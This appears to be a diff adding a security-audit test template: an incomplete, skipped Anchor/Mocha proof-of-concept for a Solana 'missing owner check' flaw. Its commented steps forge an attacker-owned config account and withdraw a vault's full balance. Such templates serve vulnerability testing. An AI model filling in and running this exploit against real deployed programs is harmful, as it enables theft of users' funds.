@@ -0,0 +1,45 @@
+// PoC Template: Missing Owner Check (Anchor TypeScript test)
+// Vulnerability: Raw account data is deserialized without checking the owning program
+// Chain: Solana/Anchor, run with `anchor test`
+//
+// The attacker forges a config with the expected layout under a program
+// they control; see missing_owner_check.rs for the vulnerable pattern and
+// the fix.
+
+import * as anchor from "@coral-xyz/anchor";
+import { BN, Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey } from "@solana/web3.js";
+import { assert } from "chai";
+
+// ============================================================
+// EXPLOIT TEST (Mocha)
+// ============================================================
+describe("missing_owner_check exploit", () => {
+  const provider = anchor.AnchorProvider.env();
+  anchor.setProvider(provider);
+  const program = anchor.workspace.{{PROGRAM_NAME=my_program|camel}} as Program;
+  const attacker = Keypair.generate();
+
+  before(async () => {
+    assert.ok(program.programId.equals(new PublicKey("{{PROGRAM_ID}}")), "workspace program is not the target");
+    const signature = await provider.connection.requestAirdrop(attacker.publicKey, 10 * LAMPORTS_PER_SOL);
+    await provider.connection.confirmTransaction({ signature, ...(await provider.connection.getLatestBlockhash()) });
+  });
+
+  // Drop .skip once the steps below are filled in
+  it.skip("accepts a forged config", async () => {
+    // 1. The vault the real config guards
+    // const vault = new PublicKey("{{VAULT_ACCOUNT}}");
+
+    // 2. Forge a config with the same layout, owned by a program the attacker controls
+    // const forged = await createAccountOwnedBy(attackerProgram, serializeConfig({ admin: attacker.publicKey }));
+
+    // 3. Withdraw with the forged config; should fail with an owner mismatch
+    // await program.methods
+    //   .withdraw(new BN(await provider.connection.getBalance(vault)))
+    //   .accounts({ config: forged, admin: attacker.publicKey, vault })
+    //   .signers([attacker])
+    //   .rpc();
+    // assert.equal(await provider.connection.getBalance(vault), 0, "Exploit: forged config accepted");
+  });
+});